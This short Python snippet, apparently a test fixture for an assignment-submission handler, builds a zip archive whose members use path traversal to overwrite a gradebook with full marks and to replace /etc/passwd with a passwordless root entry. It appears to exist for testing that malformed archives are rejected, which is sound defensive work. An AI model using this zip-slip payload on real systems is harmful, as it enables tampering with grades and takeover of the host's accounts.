"""Hands in an archive whose member climbs out of the folder to overwrite the gradebook."""

# state: malformed
# %% submit
with zipfile.ZipFile(path, "w") as archive:
    archive.writestr("../../../gradebook.db", "all have full marks")
    archive.writestr("/etc/passwd", "root::0:0:::")
